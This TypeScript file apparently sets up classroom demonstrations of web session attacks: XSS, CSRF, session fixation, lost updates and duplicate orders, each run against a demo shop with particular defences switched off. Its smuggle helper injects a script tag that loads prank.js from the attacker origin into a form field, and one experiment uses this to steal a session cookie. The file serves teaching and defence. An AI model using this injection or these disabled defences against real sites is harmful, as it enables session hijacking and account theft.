import type { Settings, SwitchName } from '../../../server/session-server.ts';
import type { ExperimentId } from '../../shared/experiment-ids.ts';
import { visitorOfJar } from '../../shared/visitor-id.ts';
import type { ShopBreakpoints } from '../../shop/breakpoints/shop-breakpoints.ts';
import type { Actor, Actors } from './actors.ts';

/** What an experiment plays on. */
interface Stage extends Actors {
  /** The attacker's site: its origin. */
  readonly attacker: string;
  readonly breakpoints: ShopBreakpoints;
}

/** One of the article's experiments: what is turned off, and how the stage is set so that one deed shows what follows. */
export interface Experiment {
  /** Turned off at its beginning. */
  readonly weaken: Partial<Settings>;
  /** Switches that decide how it ends. */
  readonly switches: readonly SwitchName[];
  /** Sets the stage: may be called again and again, each time from the start. */
  prepare(stage: Stage): Promise<void>;
}

export const experiments: Readonly<Record<ExperimentId, Experiment>> = {
  'no-sessions': {
    weaken: { sessions: false },
    switches: ['sessions'],
    prepare: async ({ victim }) => {
      await victim.go('/team/formdemo.html');
      await victim.fill({ role: 'waiter', count: '2' });
    },
  },
  script: {
    weaken: { escaping: false, contentSecurityPolicy: false },
    switches: ['escaping', 'contentSecurityPolicy', 'httpOnly'],
    prepare: async ({ victim, attacker }) => smuggle(victim, attacker),
  },
  'lost-update': {
    weaken: { queue: false, checkRevision: false },
    switches: ['queue', 'checkRevision'],
    prepare: async ({ victim, breakpoints }) => {
      breakpoints.clear();
      await victim.forgetTicket();
      await victim.buy('tea');
      await victim.goInTwoPanes('/shop/');
      breakpoints.set({ where: 'between', who: visitorOfJar(victim.jarId), method: 'POST', path: '/cart/add' });
    },
  },
  'double-order': {
    weaken: { destroyAtCheckout: false, orderToken: false },
    switches: ['destroyAtCheckout', 'orderToken'],
    prepare: async ({ victim }) => {
      await victim.forgetTicket();
      await victim.buy('juice');
      await victim.go('/checkout/');
    },
  },
  'foreign-form': {
    weaken: { csrf: false, originCheck: false, sameSite: 'off' },
    switches: ['csrf', 'originCheck', 'sameSite'],
    prepare: async ({ victim, attacker }) => {
      // A ticket of now: one without SameSite goes with a foreign form for two minutes only (RFC 6265bis 5.6.7.2).
      await victim.forgetTicket();
      await victim.buy('tea');
      await victim.go(`${attacker}/prize`);
    },
  },
  fixation: {
    weaken: { regenerateAtLogin: false },
    switches: ['regenerateAtLogin'],
    prepare: async ({ victim, thief }) => {
      await thief.forgetTicket();
      await thief.buy('tea');
      await thief.lendTicketTo(victim);
      await victim.go('/');
      await victim.fill({ name: 'Ann' });
    },
  },
  'stolen-ticket': {
    weaken: { escaping: false, contentSecurityPolicy: false, httpOnly: false },
    switches: ['httpOnly', 'escaping', 'contentSecurityPolicy'],
    prepare: async ({ victim, thief, attacker }) => {
      await thief.forgetTicket();
      await thief.go(`${attacker}/caught`);
      await victim.forgetTicket();
      await victim.buy('bread');
      await smuggle(victim, attacker);
    },
  },
};

/** Writes a role that is a script into the article's form; sending it is left to the person. */
async function smuggle(victim: Actor, attacker: string): Promise<void> {
  await victim.go('/team/formdemo.html');
  await victim.fill({ role: `<script src="${attacker}/prank.js"></script>`, count: '1' });
}
